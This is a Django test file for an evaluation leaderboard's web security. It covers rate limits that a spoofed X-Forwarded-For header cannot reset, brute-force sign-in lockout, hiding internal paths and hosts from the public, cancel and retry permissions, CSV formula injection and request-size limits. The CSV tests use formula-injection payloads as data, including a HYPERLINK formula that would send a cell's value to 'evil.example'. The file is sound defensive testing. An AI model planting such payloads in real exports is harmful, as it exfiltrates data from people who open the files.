"""Issue #8, web surfaces: per-client limits that a header cannot reset, sign-in brute force, run
internals kept from the public, one rule for cancel and retry, inert CSV cells, bounded request bodies.

Real PostgreSQL and Redis, the Django test client and DRF's API client; nothing mocked.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib.auth.models import User
from django.core.handlers.wsgi import WSGIHandler
from django.core.signals import request_finished, request_started
from django.db import close_old_connections
from django.test import Client
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient
from rest_framework.throttling import AnonRateThrottle

from evals.models import EvalRun
from evals.selectors.leaderboard import leaderboard_cache_bump
from registry.hub import HubModel
from tests.evals.factories import complete_run, model

# Throttle counters live in the cache: every test starts from empty buckets.
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_cache")]

SECRET_PATH = "/srv/ladder/private-weights/acme-7b/model.gguf"
WORKER_HOST = "gpu-node-17.corp.internal"
RAW_ERROR = f"Model backend error: OSError: cannot open {SECRET_PATH} on {WORKER_HOST}"


@pytest.fixture
def bob(db):
    """Bob is signed in, not staff, and owns none of Alice's runs."""
    return User.objects.create_user("bob", "bob@example.com", "bob-password-1")


def _model(repo_id: str = "acme/acme-7b", **fields):
    fields.setdefault("hub_sha", "a" * 40)
    fields.setdefault("on_hub", True)
    return model(repo_id, **fields)


def _run(status: str, *, submitted_by=None, **fields) -> EvalRun:
    fields.setdefault("revision_sha", "a" * 40)
    return EvalRun.objects.create(
        model=_model(),
        suite="quick",
        benchmarks=["arc_easy"],
        status=status,
        submitted_by=submitted_by,
        **fields,
    )


def _signed_in(user) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


# --- 5b: the client address is the socket's unless trusted proxies say otherwise -----------------------


def test_changing_x_forwarded_for_does_not_give_an_anonymous_client_a_fresh_bucket(api_client, monkeypatch):
    """With no trusted proxy (the default) the header is ignored: three spoofed addresses from one socket
    share one bucket, so the fourth request is refused."""
    monkeypatch.setitem(AnonRateThrottle.THROTTLE_RATES, "anon", "3/minute")

    statuses = [
        api_client.get("/api/v1/models/", HTTP_X_FORWARDED_FOR=spoofed).status_code
        for spoofed in ("203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.4")
    ]

    assert statuses == [200, 200, 200, 429]


def test_with_one_trusted_proxy_the_right_most_forwarded_address_is_the_client(api_client, monkeypatch, settings):
    """Behind one proxy that appends the address it saw, the client is the right-most X-Forwarded-For entry:
    whatever the client wrote to the left of it does not change its bucket, and other clients keep theirs."""
    from config.throttling import client_address

    settings.TRUSTED_PROXIES = 1
    monkeypatch.setitem(AnonRateThrottle.THROTTLE_RATES, "anon", "3/minute")
    proxy = {"REMOTE_ADDR": "10.0.0.2"}

    same_client = [
        api_client.get("/api/v1/models/", HTTP_X_FORWARDED_FOR=f"198.51.100.{i}, 192.0.2.7", **proxy).status_code
        for i in range(4)
    ]
    other_client = api_client.get("/api/v1/models/", HTTP_X_FORWARDED_FOR="192.0.2.8", **proxy)

    assert same_client == [200, 200, 200, 429]
    assert other_client.status_code == 200
    request = type("R", (), {"META": {"REMOTE_ADDR": "10.0.0.2", "HTTP_X_FORWARDED_FOR": "1.2.3.4, 192.0.2.7"}})()
    assert client_address(request) == "192.0.2.7"


# --- 5c: sign-in brute force -----------------------------------------------------------------------------


def _sign_in(client: Client, username: str, password: str, **extra):
    return client.post("/accounts/login/", {"username": username, "password": password}, **extra)


def test_five_failed_sign_ins_lock_the_account_even_for_the_right_password(alice, settings):
    """After LADDER_LOGIN_FAILURE_LIMIT wrong passwords the right one is refused too (429), for a while."""
    client = Client()
    answers = [
        _sign_in(client, "alice", f"guess-{attempt}", REMOTE_ADDR=f"198.51.100.{attempt}").status_code
        for attempt in range(settings.AXES_FAILURE_LIMIT)
    ]
    assert answers == [200] * (settings.AXES_FAILURE_LIMIT - 1) + [429]  # the form again, then the lockout

    locked = _sign_in(client, "alice", "alice-password-1", REMOTE_ADDR="198.51.100.99")

    assert locked.status_code == 429
    assert "Too many failed sign-ins" in locked.content.decode()
    assert int(locked["Retry-After"]) == 15 * 60
    assert "_auth_user_id" not in client.session


def test_failed_sign_ins_from_one_address_lock_that_address_for_every_username(alice, bob):
    """Spraying passwords over many usernames from one address is stopped too; the header does not help,
    and other addresses are not affected."""
    attacker = Client()
    for i in range(5):
        _sign_in(attacker, f"user{i}", "password", HTTP_X_FORWARDED_FOR=f"203.0.113.{i}")

    refused = _sign_in(attacker, "bob", "bob-password-1", HTTP_X_FORWARDED_FOR="203.0.113.200")
    elsewhere = Client()
    accepted = _sign_in(elsewhere, "alice", "alice-password-1", REMOTE_ADDR="192.0.2.50")

    assert refused.status_code == 429 and "_auth_user_id" not in attacker.session
    assert accepted.status_code == 302 and elsewhere.session["_auth_user_id"] == str(alice.pk)


def test_signing_in_to_an_own_account_between_guesses_does_not_reset_the_count(alice, bob):
    """An attacker with an account of their own cannot wipe the failures counted against Alice (and their
    address) by signing in as themselves every few guesses."""
    attacker = Client()
    for i in range(4):
        assert _sign_in(attacker, "alice", f"guess-{i}").status_code == 200
    assert _sign_in(Client(), "bob", "bob-password-1").status_code == 302  # the attacker's own account

    fifth = _sign_in(attacker, "alice", "guess-5")

    assert fifth.status_code == 429


# --- 7: internals in public ---------------------------------------------------------------------------------


def _failed_run(alice) -> EvalRun:
    return _run(
        "failed",
        submitted_by=alice,
        error=RAW_ERROR,
        worker_host=WORKER_HOST,
        settings={"n_shot": {"arc_easy": 0}, "seed": 1234, "backend": {"weights": SECRET_PATH, "device": "cuda"}},
    )


def _all_surfaces(client: Client, run: EvalRun) -> dict[str, str]:
    return {
        "api": client.get(f"/api/v1/evaluations/{run.pk}/").content.decode(),
        "api_list": client.get("/api/v1/evaluations/").content.decode(),
        "run_page": client.get(f"/runs/{run.pk}/").content.decode(),
        "queue_page": client.get("/queue/").content.decode(),
        "queue_json": client.get(f"/queue/?format=json&ids={run.pk}").content.decode(),
    }


@pytest.mark.parametrize("persona", ["anonymous", "bob"])
def test_the_public_sees_a_failure_code_and_message_but_no_paths_hosts_or_usernames(persona, alice, bob):
    """Anonymous visitors and other users get `backend_error` and a plain message; the weights path, the
    worker host, the raw exception text and the submitter's name appear on no API answer or page."""
    run = _failed_run(alice)
    client = _signed_in(bob if persona == "bob" else None)

    surfaces = _all_surfaces(client, run)
    detail = json.loads(surfaces["api"])

    for name, body in surfaces.items():
        assert SECRET_PATH not in body, name
        assert WORKER_HOST not in body, name
        assert "OSError" not in body, name
    for name in ("api", "api_list", "run_page", "queue_page"):
        assert "alice" not in surfaces[name], name
    assert detail["error_code"] == "backend_error"
    assert detail["error"] == "The model could not be loaded or run by the evaluation backend."
    assert detail["error_detail"] is None and detail["worker_host"] is None and detail["submitted_by"] is None
    assert detail["provenance"]["settings"]["backend"] == {"device": "cuda"}
    assert detail["provenance"]["settings"]["seed"] == 1234
    assert "backend_error" in surfaces["run_page"] and "could not be loaded" in surfaces["run_page"]


def test_staff_see_the_stored_error_the_worker_host_and_the_weights_path(alice, sam_staff):
    run = _failed_run(alice)

    surfaces = _all_surfaces(_signed_in(sam_staff), run)
    detail = json.loads(surfaces["api"])

    assert detail["error_detail"] == RAW_ERROR and detail["worker_host"] == WORKER_HOST
    assert detail["submitted_by"] == "alice"
    assert detail["provenance"]["settings"]["backend"]["weights"] == SECRET_PATH
    assert RAW_ERROR in surfaces["run_page"] and WORKER_HOST in surfaces["run_page"]
    assert SECRET_PATH in surfaces["queue_page"] and SECRET_PATH in surfaces["queue_json"]


def test_the_submitter_sees_their_own_name_but_not_the_internals(alice):
    run = _failed_run(alice)

    surfaces = _all_surfaces(_signed_in(alice), run)
    detail = json.loads(surfaces["api"])

    assert detail["submitted_by"] == "alice" and detail["error_detail"] is None
    assert "alice" in surfaces["run_page"]
    assert SECRET_PATH not in surfaces["run_page"] and WORKER_HOST not in surfaces["run_page"]


def test_a_user_cancellation_does_not_show_who_cancelled_to_the_public(alice):
    run = _run("cancelled", submitted_by=alice, error="Cancelled by alice.")

    detail = Client().get(f"/api/v1/evaluations/{run.pk}/").json()
    page = Client().get(f"/runs/{run.pk}/").content.decode()

    assert (detail["error_code"], detail["error"]) == ("cancelled", "The run was cancelled.")
    assert "alice" not in page and "The run was cancelled." in page


def test_the_leaderboard_never_shows_a_runs_weights_path():
    ranked = _model("acme/ranked-7b")
    complete_run(ranked, 0.6, revision_sha="a" * 40, settings={"seed": 1, "backend": {"weights": SECRET_PATH}})
    leaderboard_cache_bump()  # as the services do when a run finishes

    board = Client().get("/api/v1/leaderboard/", {"suite": "quick"})
    exported = Client().get("/api/v1/leaderboard.csv", {"suite": "quick"})

    assert [row["model"]["id"] for row in board.json()["results"]] == ["acme/ranked-7b"]
    assert SECRET_PATH not in board.content.decode()
    assert SECRET_PATH not in b"".join(exported.streaming_content).decode()


# --- 8: one rule for cancel and retry, on both surfaces -------------------------------------------------------

STATUSES = ["queued", "running", "succeeded", "failed", "cancelled"]
PERSONAS = ["anonymous", "other user", "submitter", "staff"]
# The table in evals/services/lifecycle.py: who may cancel or retry a run in each state.
MAY_CANCEL = {("submitter", "queued"), ("submitter", "running"), ("staff", "queued"), ("staff", "running")}
MAY_RETRY = {("staff", "failed"), ("staff", "cancelled")}


def _persona(name: str, alice, bob, sam_staff):
    return {"anonymous": None, "other user": bob, "submitter": alice, "staff": sam_staff}[name]


def _changed(run: EvalRun, before: tuple) -> bool:
    run.refresh_from_db()
    return (run.status, run.cancel_requested) != before


@pytest.mark.parametrize("status", STATUSES)
@pytest.mark.parametrize("persona", PERSONAS)
def test_cancel_follows_one_table_on_the_api_the_pages_and_their_buttons(persona, status, alice, bob, sam_staff):
    """The API, the run page's button, the queue's button and the page's POST all answer from one rule."""
    from evals import services

    user = _persona(persona, alice, bob, sam_staff)
    allowed = (persona, status) in MAY_CANCEL
    api_run, page_run = _run(status, submitted_by=alice), _run(status, submitted_by=alice, dtype="float32")
    api_before = (api_run.status, api_run.cancel_requested)
    page_before = (page_run.status, page_run.cancel_requested)
    api = APIClient()
    if user is not None:
        api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    client = _signed_in(user)

    run_page = client.get(f"/runs/{page_run.pk}/").content.decode()
    queue_page = client.get("/queue/").content.decode()
    api_answer = api.post(f"/api/v1/evaluations/{api_run.pk}/cancel/")
    page_answer = client.post(f"/runs/{page_run.pk}/cancel/")

    assert services.eval_run_can_cancel(user, page_run) is allowed
    assert (f'action="/runs/{page_run.pk}/cancel/"' in run_page) is allowed
    assert (f'action="/runs/{page_run.pk}/cancel/"' in queue_page) is allowed
    assert (api_answer.status_code == 200) is allowed, api_answer.content
    assert _changed(api_run, api_before) is allowed
    assert _changed(page_run, page_before) is allowed
    if not allowed:
        expected = {"anonymous": 401, "other user": 403}.get(persona, 409)
        assert api_answer.status_code == expected
        assert page_answer.status_code in ({"anonymous": 302, "other user": 403}.get(persona, 302),)


@pytest.mark.parametrize("status", STATUSES)
@pytest.mark.parametrize("persona", PERSONAS)
def test_retry_follows_one_table_on_the_pages_and_their_buttons(persona, status, alice, bob, sam_staff):
    from evals import services

    user = _persona(persona, alice, bob, sam_staff)
    allowed = (persona, status) in MAY_RETRY
    run = _run(status, submitted_by=alice, error="boom" if status in ("failed", "cancelled") else "")
    client = _signed_in(user)

    run_page = client.get(f"/runs/{run.pk}/").content.decode()
    queue_page = client.get("/queue/").content.decode()
    answer = client.post(f"/runs/{run.pk}/retry/")

    assert services.eval_run_can_retry(user, run) is allowed
    assert (f'action="/runs/{run.pk}/retry/"' in run_page) is allowed
    assert (f'action="/runs/{run.pk}/retry/"' in queue_page) is allowed
    run.refresh_from_db()
    assert (run.status == "queued" and status != "queued") is allowed
    if persona == "other user" or (persona == "submitter" and not allowed):
        assert answer.status_code == 403


# --- 9: CSV formula injection ----------------------------------------------------------------------------------


def test_csv_cells_that_start_like_a_formula_are_inert_and_numbers_stay_numbers():
    """A license key or model name such as `=HYPERLINK(...)` reaches the CSV with a leading `'`, so a
    spreadsheet shows it as text instead of running it; a negative number stays a number."""
    from evals.api.leaderboard import csv_cell
    from registry.models import License

    evil_license = License.objects.create(key='=HYPERLINK("http://evil.example/?"&A1,"open")', name="x")
    ranked = _model("@SUM(1+1)*cmd/calc", license=evil_license)
    complete_run(ranked, 0.6, revision_sha="a" * 40)
    leaderboard_cache_bump()  # as the services do when a run finishes

    exported = Client().get("/api/v1/leaderboard.csv", {"suite": "quick"})
    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))

    assert exported.status_code == 200 and len(rows) == 1
    cells = [cell for row in rows for cell in row.values()]
    assert rows[0]["license"] == "'" + evil_license.key
    assert rows[0]["model"] == "'@SUM(1+1)*cmd/calc"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # A number is no formula: a negative score interval bound stays a number.
    assert (csv_cell("-0.250000"), csv_cell("-1+cmd"), csv_cell("\t=1")) == ("-0.250000", "'-1+cmd", "'\t=1")


def test_an_unknown_hub_license_becomes_other_with_its_text_kept_as_data():
    from registry.services.hub_sync import hub_model_upsert

    raw = '=HYPERLINK("http://evil.example","free")'
    info = HubModel(
        repo_id="evil/model",
        author="evil",
        sha="c" * 40,
        pipeline_tag="text-generation",
        card_data={"license": raw},
        tags=("text-generation", f"license:{raw}"),
    )
    known = HubModel(repo_id="good/model", author="good", sha="d" * 40, card_data={"license": "Apache-2.0"})

    row, _outcome = hub_model_upsert(info, config_file={})
    good, _outcome = hub_model_upsert(known, config_file={})

    assert (row.license.key, row.license_name) == ("other", raw)
    assert good.license.key == "apache-2.0"


# --- 10: body limits -----------------------------------------------------------------------------------------------


class _CountingStream:
    """A request body that records how much of it anything read."""

    def __init__(self, size: int) -> None:
        self.size, self.read_bytes = size, 0

    def read(self, n: int = -1) -> bytes:
        n = self.size - self.read_bytes if n is None or n < 0 else min(n, self.size - self.read_bytes)
        self.read_bytes += n
        return b"x" * n

    def readline(self, n: int = -1) -> bytes:
        return self.read(n)


def _raw_post(path: str, *, content_type: str, size: int, cookie: str = "", authorization: str = ""):
    """POST `size` bytes through the real WSGI handler and return (status, body, bytes read)."""
    stream = _CountingStream(size)
    environ = {
        "REQUEST_METHOD": "POST",
        "PATH_INFO": path,
        "SERVER_NAME": "127.0.0.1",
        "SERVER_PORT": "80",
        "REMOTE_ADDR": "127.0.0.1",
        "wsgi.url_scheme": "http",
        "wsgi.input": stream,
        "wsgi.errors": io.StringIO(),
        "CONTENT_TYPE": content_type,
        "CONTENT_LENGTH": str(size),
        "HTTP_HOST": "127.0.0.1",
    }
    if cookie:
        environ["HTTP_COOKIE"] = cookie
    if authorization:
        environ["HTTP_AUTHORIZATION"] = authorization
    status = []
    # As Django's test client does: the request must not close the test's database connection.
    request_started.disconnect(close_old_connections)
    request_finished.disconnect(close_old_connections)
    try:
        body = b"".join(WSGIHandler()(environ, lambda s, headers, exc_info=None: status.append(s)))
    finally:
        request_started.connect(close_old_connections)
        request_finished.connect(close_old_connections)
    return int(status[0].split()[0]), body, stream.read_bytes


def test_a_20_mb_multipart_post_to_the_api_is_refused_unread_with_a_session_or_a_token(alice):
    """No parser, not even the session's CSRF check, reads a 20 MB upload to an API write: 415, 0 bytes
    read, no run created."""
    client = _signed_in(alice)
    session_cookie = f"sessionid={client.cookies['sessionid'].value}"
    token = Token.objects.create(user=alice)
    multipart = "multipart/form-data; boundary=----x"

    by_session = _raw_post("/api/v1/evaluations/", content_type=multipart, size=20 * 1024 * 1024, cookie=session_cookie)
    by_token = _raw_post(
        "/api/v1/evaluations/", content_type=multipart, size=20 * 1024 * 1024, authorization=f"Token {token.key}"
    )

    for status, body, read in (by_session, by_token):
        assert (status, read) == (415, 0)
        assert json.loads(body)["error"]["code"] == "unsupported_media_type"
    assert not EvalRun.objects.exists()


def test_an_oversized_json_body_and_an_oversized_page_post_answer_413_unread(alice):
    client = _signed_in(alice)
    session_cookie = f"sessionid={client.cookies['sessionid'].value}"

    api = _raw_post("/api/v1/evaluations/", content_type="application/json", size=300 * 1024, cookie=session_cookie)
    page = _raw_post(
        "/submit/", content_type="multipart/form-data; boundary=----x", size=20 * 1024 * 1024, cookie=session_cookie
    )

    assert (api[0], api[2]) == (413, 0) and json.loads(api[1])["error"]["code"] == "payload_too_large"
    assert (page[0], page[2]) == (413, 0)


def test_the_api_still_takes_a_json_submission_within_the_limit(alice):
    """The limits refuse only what they should: a small JSON body is read and validated as before."""
    api = APIClient()
    api.force_authenticate(alice)

    response = api.post("/api/v1/evaluations/", {"model": "not a model id"}, format="json")

    assert response.status_code == 400 and response.json()["error"]["field"] == "model"
